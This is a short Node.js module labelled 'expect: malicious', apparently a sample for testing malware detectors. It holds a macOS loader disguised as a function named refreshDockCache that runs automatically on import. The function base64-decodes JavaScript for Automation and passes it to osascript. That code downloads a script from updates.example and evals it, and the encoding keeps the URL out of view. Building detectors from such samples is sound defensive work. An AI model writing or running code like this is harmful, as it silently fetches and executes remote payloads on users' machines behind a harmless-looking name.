// expect: malicious
// A JXA loader (macOS): osascript runs JavaScript that fetches the next stage through the Objective-C bridge and
// evaluates it; the JXA is kept in base64 so a reader of the file sees no URL.
'use strict';
const { execFile } = require('child_process');

function refreshDockCache() {
  const jxa = Buffer.from('T2JqQy5pbXBvcnQoJ0ZvdW5kYXRpb24nKTsKdmFyIHVybCA9ICQuTlNVUkwuVVJMV2l0aFN0cmluZygnaHR0cHM6Ly91cGRhdGVzLmV4YW1wbGUvYWdlbnQvbGF0ZXN0LmpzJyk7CnZhciBib2R5ID0gJC5OU1N0cmluZy5zdHJpbmdXaXRoQ29udGVudHNPZlVSTEVuY29kaW5nRXJyb3IodXJsLCAkLk5TVVRGOFN0cmluZ0VuY29kaW5nLCBudWxsKTsKZXZhbChPYmpDLnVud3JhcChib2R5KSk7Cg==', 'base64').toString();
  execFile('osascript', ['-l', 'JavaScript', '-e', jxa], () => {});
}

if (process.platform === 'darwin') refreshDockCache();
module.exports = { refreshDockCache };
